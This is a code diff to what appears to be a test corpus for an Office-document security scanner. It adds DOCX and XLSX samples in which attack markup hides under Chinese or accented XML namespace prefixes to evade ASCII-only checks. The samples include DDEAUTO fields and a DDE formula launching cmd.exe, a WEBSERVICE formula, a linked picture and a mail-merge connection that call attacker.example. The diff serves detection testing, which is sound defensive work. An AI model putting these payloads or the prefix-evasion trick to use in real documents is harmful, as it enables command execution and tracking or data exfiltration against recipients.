@@ -1313,6 +1313,7 @@ const officeItems: CorpusItem[] = [
   ...mediaOfficeItems(),
   ...objectPictureOfficeItems(),
   ...foldedTargetOfficeItems(),
+  ...prefixedOfficeItems(),
 ];
 
 /** An Office item, declared as its id's first word says (a PPTX, not evidence, as a DOCX). */
@@ -3496,6 +3497,23 @@ export const ACTIVE_GENUINE: readonly {
       ),
     warning: 'EXTERNAL_LINK',
   },
+  {
+    id: 'docx-page-field-chinese-prefix',
+    declared: 'docx',
+    // Round 13: Word's markup under a Chinese prefix, a PAGE field in it: read, and harmless.
+    bytes: () =>
+      office('docx', {
+        'word/document.xml': `<?xml version="1.0" encoding="UTF-8"?>\n<文:document xmlns:文="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><文:body><文:p><文:r><文:t>第</文:t></文:r><文:r><文:fldChar 文:fldCharType="begin"/></文:r><文:r><文:instrText> PAGE </文:instrText></文:r><文:r><文:fldChar 文:fldCharType="end"/></文:r><文:r><文:t>页</文:t></文:r></文:p></文:body></文:document>`,
+      }),
+  },
+  {
+    id: 'xlsx-sum-formula-chinese-prefix',
+    declared: 'xlsx',
+    bytes: () =>
+      office('xlsx', {
+        'xl/worksheets/sheet1.xml': `<?xml version="1.0" encoding="UTF-8"?>\n<表:worksheet xmlns:表="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><表:sheetData><表:row r="1"><表:c r="A1"><表:f>SUM(B1:B9)&amp;"|"</表:f><表:v>0</表:v></表:c></表:row></表:sheetData></表:worksheet>`,
+      }),
+  },
 ];
 
 /**
@@ -4286,4 +4304,72 @@ function foldedTargetOfficeItems(): CorpusItem[] {
       'OOXML_EXTERNAL',
     ),
   ]);
+}
+
+/**
+ * Round 13: a namespace prefix is any XML name, Chinese ones included (`<文:instrText>` under
+ * `xmlns:文="…wordprocessingml…"` is Word's instrText to a namespace-aware reader). The Office
+ * checks matched prefixes of ASCII letters only, so a field, a formula or a Relationship under a
+ * prefix beyond ASCII was not seen at all: VALID without a finding.
+ */
+function prefixedOfficeItems(): CorpusItem[] {
+  const W = 'http://schemas.openxmlformats.org/wordprocessingml/2006/main';
+  const S = 'http://schemas.openxmlformats.org/spreadsheetml/2006/main';
+  const XML_DECLARATION = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n';
+  const documentUnder = (p: string, runs: string) =>
+    office('docx', {
+      'word/document.xml': `${XML_DECLARATION}<${p}:document xmlns:${p}="${W}"><${p}:body><${p}:p>${runs}</${p}:p></${p}:body></${p}:document>`,
+    });
+  const sheetUnder = (p: string, formula: string) =>
+    office('xlsx', {
+      'xl/worksheets/sheet1.xml': `${XML_DECLARATION}<${p}:worksheet xmlns:${p}="${S}"><${p}:sheetData><${p}:row r="1"><${p}:c r="A1"><${p}:f>${formula}</${p}:f><${p}:v>0</${p}:v></${p}:c></${p}:row></${p}:sheetData></${p}:worksheet>`,
+    });
+  const dde = ' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe" ';
+  const field = (p: string) =>
+    `<${p}:r><${p}:fldChar ${p}:fldCharType="begin"/></${p}:r><${p}:r><${p}:instrText xml:space="preserve">${dde}</${p}:instrText></${p}:r><${p}:r><${p}:fldChar ${p}:fldCharType="end"/></${p}:r>`;
+  return [
+    item('docx-ddeauto-chinese-prefix', 'DDE', () => documentUnder('文', field('文')), 'OOXML_DDE'),
+    item('docx-ddeauto-accented-prefix', 'DDE', () => documentUnder('wé', field('wé')), 'OOXML_DDE'),
+    item(
+      'docx-ddeauto-simple-field-chinese-prefix',
+      'DDE',
+      () =>
+        documentUnder(
+          '文',
+          `<文:fldSimple 文:instr="${dde.replaceAll('"', '&quot;')}"><文:r><文:t>1</文:t></文:r></文:fldSimple>`,
+        ),
+      'OOXML_DDE',
+    ),
+    item('xlsx-dde-formula-chinese-prefix', 'DDE', () => sheetUnder('表', "cmd|' /c calc'!A0"), 'OOXML_DDE'),
+    item(
+      'xlsx-webservice-chinese-prefix',
+      'OOXML external',
+      () => sheetUnder('表', '_xlfn.WEBSERVICE(&quot;http://attacker.example/x&quot;)'),
+      'OOXML_EXTERNAL',
+    ),
+    item(
+      'docx-linked-picture-chinese-prefixes',
+      'OOXML external',
+      () =>
+        documentLinking(
+          `<w:p>${inlinePicture('关:link="rId9"')
+            .replaceAll('a:blip', '图:blip')
+            .replace(
+              '<w:drawing>',
+              `<w:drawing xmlns:图="http://schemas.openxmlformats.org/drawingml/2006/main" xmlns:关="${REL}">`,
+            )}</w:p>`,
+          [rel('rId9', 'hyperlink', 'http://attacker.example/track.png', true)],
+        ),
+      'OOXML_EXTERNAL',
+    ),
+    item(
+      'docx-mail-merge-chinese-prefix',
+      'OOXML external',
+      () =>
+        office('docx', {
+          'word/settings.xml': `${XML_DECLARATION}<设:settings xmlns:设="${W}"><设:mailMerge><设:mainDocumentType 设:val="formLetters"/><设:linkToQuery/><设:dataType 设:val="native"/><设:connectString 设:val="Provider=Microsoft.ACE.OLEDB.12.0;Data Source=\\\\attacker.example\\s\\d.xlsx"/><设:query 设:val="SELECT * FROM x"/></设:mailMerge></设:settings>`,
+        }),
+      'OOXML_EXTERNAL',
+    ),
+  ];
 }
